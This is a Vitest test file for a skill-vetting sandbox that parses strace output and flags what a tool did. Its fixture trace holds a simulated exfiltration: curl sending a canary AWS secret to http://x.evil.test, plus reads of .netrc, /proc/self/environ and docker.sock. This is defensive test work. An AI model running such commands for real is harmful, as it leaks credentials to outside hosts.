import { createHash } from 'node:crypto';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { ConfigSchema } from '../../src/contracts/config/schema.js';
import { formatBehaviour } from '../../src/worker/skills/behaviour/format.js';
import { behaviourRunnerFromConfig } from '../../src/worker/skills/behaviour/from-config.js';
import { type Canary, observeTool, type ToolRun } from '../../src/worker/skills/behaviour/observe.js';
import type { BehaviourReport } from '../../src/worker/skills/behaviour/report.js';
import { dnsQueryName, parseTrace } from '../../src/worker/skills/behaviour/trace.js';
import { BEHAVIOUR_REVISION, BEHAVIOUR_VERSION } from '../../src/worker/skills/behaviour/version.js';
import { formatReport, statusOf } from '../../src/worker/skills/report.js';
import { rescanIfStale } from '../../src/worker/skills/rescan.js';
import { SCANNER_VERSION } from '../../src/worker/skills/scanner-version.js';
import { addSkill, approveSkill } from '../../src/worker/skills/vetting.js';
import { BENIGN, MALICIOUS } from '../fixtures/skill-corpus.js';
import { type SkillFiles, writeSkill } from '../helpers/skill-fixtures.js';
import { registryOf } from '../helpers/skill-stack.js';

/** Reading strace's text, judging what a tool did, and approval weighing both reports. */

/** A DNS query for `name` as glibc sends it, written the way strace -x prints it. */
function straceDns(name: string): string {
  const labels = name.split('.').map((l) => String.fromCharCode(l.length) + l);
  const bytes = Buffer.from(
    `\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00${labels.join('')}\x00\x00\x01\x00\x01`,
    'latin1',
  );
  return [...bytes]
    .map((b) =>
      b >= 0x20 && b < 0x7f && b !== 0x22 && b !== 0x5c
        ? String.fromCharCode(b)
        : `\\x${b.toString(16).padStart(2, '0')}`,
    )
    .join('');
}

const TRACE = [
  'execve("/bin/sh", ["sh", "-c", "exec 2>&1; exec \\"$@\\"", "sh", "bash", "/skills/s/run.sh"], 0x7ffd /* 9 vars */) = 0',
  'execve("/usr/bin/bash", ["bash", "/skills/s/run.sh"], 0x55 /* 9 vars */) = 0',
  '[pid    12] execve("/usr/bin/curl", ["curl", "-d", "k=CANARYVALUE1", "http://x.evil.test"], 0x55 /* 9 vars */) = 0',
  '[pid    12] connect(3, {sa_family=AF_UNIX, sun_path="/var/run/nscd/socket"}, 110) = -1 ENOENT (No such file or directory)',
  '[pid    12] connect(5, {sa_family=AF_INET, sin_port=htons(53), sin_addr=inet_addr("127.0.0.1")}, 16) = 0',
  `[pid    12] sendto(5, "${straceDns('dns.evil.test')}", 31, MSG_NOSIGNAL, NULL, 0) = 31`,
  '[pid    13] connect(4, {sa_family=AF_INET6, sin6_port=htons(80), sin6_flowinfo=htonl(0), inet_pton(AF_INET6, "fd00:ec2::254", &sin6_addr), sin6_scope_id=0}, 28 <unfinished ...>',
  '[pid    12] openat(AT_FDCWD, "/workspace/.netrc", O_RDONLY) = 3',
  '[pid    13] <... connect resumed>) = -1 ENETUNREACH (Network is unreachable)',
  '[pid    12] connect(6, {sa_family=AF_UNIX, sun_path="/var/run/docker.sock"}, 23) = 0',
  '[pid    12] openat(AT_FDCWD, "/etc/cron.d/x", O_WRONLY|O_CREAT|O_TRUNC, 0666) = -1 EROFS (Read-only file system)',
  '[pid    12] openat(AT_FDCWD, "/workspace/outbox/out.txt", O_WRONLY|O_CREAT|O_TRUNC, 0666) = 3',
  '[pid    12] openat(AT_FDCWD, "/proc/self/environ", O_RDONLY) = 3',
  '[pid    12] connect(7, {sa_family=AF_INET, sin_port=htons(443), sin_addr=inet_addr("93.184.216.34")}, 16) = -1 ENETUNREACH',
].join('\n');

const CANARIES: Canary[] = [
  { name: 'AWS_SECRET_ACCESS_KEY', env: 'AWS_SECRET_ACCESS_KEY', value: 'CANARYVALUE1' },
  { name: '~/.netrc', path: '/workspace/.netrc', value: 'CANARYVALUE2' },
];

const run = (trace: string, extra: Partial<ToolRun> = {}): ToolRun => ({
  tool: 'run',
  args: '{}',
  exitCode: 0,
  timedOut: false,
  overMemory: false,
  ms: 10,
  maxRssKb: 1000,
  output: '',
  trace,
  records: [],
  ...extra,
});

describe('reading strace', () => {
  it('reads processes, sockets (joining unfinished calls), opens and DNS queries', () => {
    const events = parseTrace(TRACE);
    expect(events.filter((e) => e.kind === 'exec').map((e) => e.kind === 'exec' && e.path)).toEqual([
      '/bin/sh',
      '/usr/bin/bash',
      '/usr/bin/curl',
    ]);
    expect(events).toContainEqual({
      kind: 'connect',
      pid: 13,
      family: 'inet6',
      address: 'fd00:ec2::254',
      port: 80,
      ok: false,
    });
    expect(events).toContainEqual({
      kind: 'open',
      pid: 12,
      path: '/etc/cron.d/x',
      write: true,
      ok: false,
      error: 'EROFS',
    });
    const sent = events.find((e) => e.kind === 'send');
    expect(sent?.kind === 'send' && dnsQueryName(sent.data[0] as Buffer)).toBe('dns.evil.test');
  });

  it('takes only DNS queries for names (not answers, not other bytes)', () => {
    expect(dnsQueryName(Buffer.from('GET / HTTP/1.1\r\nHost: x\r\n\r\n'))).toBeUndefined();
    const answer = Buffer.from(
      '\x12\x34\x81\x80\x00\x01\x00\x01\x00\x00\x00\x00\x01a\x00\x00\x01\x00\x01',
      'latin1',
    );
    expect(dnsQueryName(answer)).toBeUndefined();
  });
});

describe('judging what a tool did', () => {
  const { behaviour, findings } = observeTool(run(TRACE), {
    grants: ['api.example.test'],
    canaries: CANARIES,
  });

  it('lists what it did, without the launcher’s shell or glibc’s own lookups, canary values masked', () => {
    expect(behaviour.processes).toEqual([
      'bash /skills/s/run.sh',
      'curl -d k=<canary AWS_SECRET_ACCESS_KEY> http://x.evil.test',
    ]);
    expect(behaviour.sockets).toEqual([
      'inet6 fd00:ec2::254:80 (failed)',
      'unix /var/run/docker.sock',
      'inet 93.184.216.34:443 (failed)',
    ]);
    expect(behaviour.filesWritten).toEqual(['/etc/cron.d/x (refused: EROFS)']);
    expect(behaviour.hosts.map((h) => h.host)).toEqual(['dns.evil.test', 'fd00:ec2::254', '93.184.216.34']);
  });

  it('makes undeclared hosts, the metadata address, unix sockets and canaries critical', () => {
    const rules = findings.filter((f) => f.severity === 'critical').map((f) => f.rule);
    expect(rules.sort()).toEqual([
      'canary',
      'canary',
      'canary',
      'metadata',
      'undeclared-host',
      'undeclared-host',
      'unix-socket',
    ]);
    expect(findings.map((f) => f.message)).toEqual(
      expect.arrayContaining([
        'canary ~/.netrc: opened /workspace/.netrc',
        'canary environment: read /proc/self/environ',
        'canary AWS_SECRET_ACCESS_KEY: its value in a command line',
      ]),
    );
    expect(findings).toContainEqual(expect.objectContaining({ rule: 'write-outside', severity: 'warning' }));
  });

  it('lists a declared host through the proxy for the approver, and flags a run with no trace', () => {
    const proxied = observeTool(
      run(TRACE.split('\n').slice(0, 2).join('\n'), {
        records: [
          {
            kind: 'proxy',
            method: 'CONNECT',
            target: 'api.example.test:443',
            data: 'CONNECT api.example.test:443 HTTP/1.1',
          },
        ],
      }),
      { grants: ['api.example.test'], canaries: CANARIES },
    );
    expect(proxied.findings).toEqual([expect.objectContaining({ rule: 'declared-host', severity: 'info' })]);
    const decoyOnly = observeTool(
      run(TRACE.split('\n').slice(0, 2).join('\n'), {
        records: [{ kind: 'unix', path: '/var/run/docker.sock' }],
      }),
      { grants: [], canaries: [] },
    );
    expect(decoyOnly.findings).toEqual([
      expect.objectContaining({
        rule: 'unix-socket',
        severity: 'critical',
        message: 'connected to unix /var/run/docker.sock (seen by the decoy)',
      }),
    ]);
    expect(observeTool(run(''), { grants: [], canaries: [] }).findings[0]).toMatchObject({
      rule: 'untraced',
      severity: 'critical',
    });
  });
});

const dir = await mkdtemp(join(tmpdir(), 'sandbot-behaviour-'));
afterAll(() => rm(dir, { recursive: true, force: true }));
const registry = registryOf({ SANDBOT_SKILLS_DIR: dir });
/** The real runner, with an engine that is not there: what the CLI gets when Docker is down. */
const unreachable = behaviourRunnerFromConfig(
  ConfigSchema.parse({
    ...process.env,
    DOCKER_HOST: `unix://${dir}/no-engine.sock`,
    SANDBOX_LAYER: 'container',
  }),
);

function ranReport(critical: boolean, version = BEHAVIOUR_VERSION): BehaviourReport {
  const findings: BehaviourReport['findings'] = critical
    ? [
        {
          rule: 'undeclared-host',
          severity: 'critical',
          tool: 'run',
          message: 'tried x.evil.test:443 (proxy), a host its manifest does not declare',
        },
      ]
    : [];
  return {
    version,
    status: 'ran',
    layer: 'gvisor',
    at: new Date().toISOString(),
    ms: 900,
    tools: [],
    findings,
  };
}

async function staged(files: SkillFiles, name: string, behaviour?: BehaviourReport) {
  const { record } = await addSkill(registry, await writeSkill(files), 'ann');
  if (behaviour) await registry.store.save({ ...record, behaviour });
  return `${name}@1.0.0`;
}
const approve = (ref: string, acceptFindings = false) =>
  approveSkill(registry, ref, { by: 'ann', hosts: 'all', acceptFindings });

describe('approval weighs both reports', () => {
  it('refuses a critical finding of the behavioural run alone without --accept-findings, then pins both versions', async () => {
    const ref = await staged(BENIGN['word-count'] as SkillFiles, 'word-count', ranReport(true));
    await expect(approve(ref)).rejects.toThrow(
      /1 critical finding\(s\) in what its tools did .*needs --accept-findings/,
    );
    const approved = await approve(ref, true);
    expect(approved.approval).toMatchObject({
      acceptedFindings: 1,
      scannerVersion: SCANNER_VERSION,
      behaviourVersion: BEHAVIOUR_VERSION,
    });
  });

  it('refuses a critical finding of the static scan alone, and approves a skill clean in both', async () => {
    const bad = await staged(MALICIOUS['encoded-shell'] as SkillFiles, 'encoded-shell', ranReport(false));
    await expect(approve(bad)).rejects.toThrow(/1 critical finding\(s\) in its files \(/);
    const good = await staged(BENIGN['py-runner'] as SkillFiles, 'py-runner', ranReport(false));
    expect((await approve(good)).approval?.acceptedFindings).toBe(0);
  });

  it('keeps a skill pending when the engine is away: the run is "not run", a critical finding, said in the report', async () => {
    const report = await unreachable({
      manifest: (await registry.store.get('word-count', '1.0.0'))?.manifest as never,
      files: [],
    });
    expect(report).toMatchObject({
      status: 'not-run',
      findings: [{ rule: 'not-run', severity: 'critical' }],
    });
    expect(report.reason).toMatch(/container engine at unix:\/\/.*no-engine\.sock cannot be reached/);
    const ref = await staged(BENIGN['fetch-data'] as SkillFiles, 'fetch-data', report);
    await expect(approve(ref)).rejects.toThrow(/in what its tools did/);
    const record = await registry.store.get('fetch-data', '1.0.0');
    expect(record?.status).toBe('pending');
    expect(formatReport(record as never)).toContain('behaviour: NOT RUN');
  });

  it('runs a stale report again where a runner is given, but an engine away never replaces a report that ran', async () => {
    await staged(BENIGN['node-forecast'] as SkillFiles, 'node-forecast', ranReport(false, 'b0-older'));
    await approve('node-forecast@1.0.0');
    const stored = await registry.store.get('node-forecast', '1.0.0');
    const after = await rescanIfStale(registry.store, stored as never, unreachable);
    expect(after.status).toBe('approved');
    expect(after.behaviour).toMatchObject({ status: 'ran', version: 'b0-older' });
    // Without a runner (a turn), a stale behaviour report is left as it is.
    expect((await rescanIfStale(registry.store, after)).behaviour?.version).toBe('b0-older');
  });

  it('says a rescan withdrew an approval only when there was one', async () => {
    const record = (await registry.store.get('word-count', '1.0.0')) as NonNullable<
      Awaited<ReturnType<typeof registry.store.get>>
    >;
    const at = new Date().toISOString();
    const rescan = { at, from: SCANNER_VERSION, by: 'bob', newCritical: 1 };
    const pending = { ...record, status: 'pending' as const };
    expect(statusOf({ ...pending, rescan: { ...rescan, withdrawn: false } })).toBe(
      `pending: rescanned by bob (skill scan) on ${at}, 1 new critical finding(s)`,
    );
    expect(statusOf({ ...pending, rescan: { ...rescan, withdrawn: true } })).toMatch(
      /withdrew its approval$/,
    );
  });

  it('prints both reports', () => {
    const lines = formatBehaviour(ranReport(true)).join('\n');
    expect(lines).toMatch(/behaviour: 1 critical, 0 warnings — 0 tool\(s\) run under gvisor in 0\.9 s/);
    expect(lines).toContain('CRITICAL undeclared-host  run: tried x.evil.test:443');
  });
});

describe('the behavioural run’s version', () => {
  it('names the readers’ revision: raise BEHAVIOUR_REVISION when what a run finds changes', async () => {
    const folder = join(import.meta.dirname, '../../src/worker/skills/behaviour');
    const hash = createHash('sha256');
    for (const file of ['canaries.ts', 'observe.ts', 'trace.ts'])
      hash.update(file).update(await readFile(join(folder, file)));
    // When this fails: what a run finds changed, so reports made before may miss what it now finds.
    // Raise BEHAVIOUR_REVISION in behaviour/version.ts, then put the new digest and revision here.
    expect({ revision: BEHAVIOUR_REVISION, digest: hash.digest('hex').slice(0, 16) }).toEqual({
      revision: 1,
      digest: '83797f42cbb73f14',
    });
    expect(BEHAVIOUR_VERSION).toMatch(new RegExp(`^b${BEHAVIOUR_REVISION}-[0-9a-f]{12}$`));
  });
});
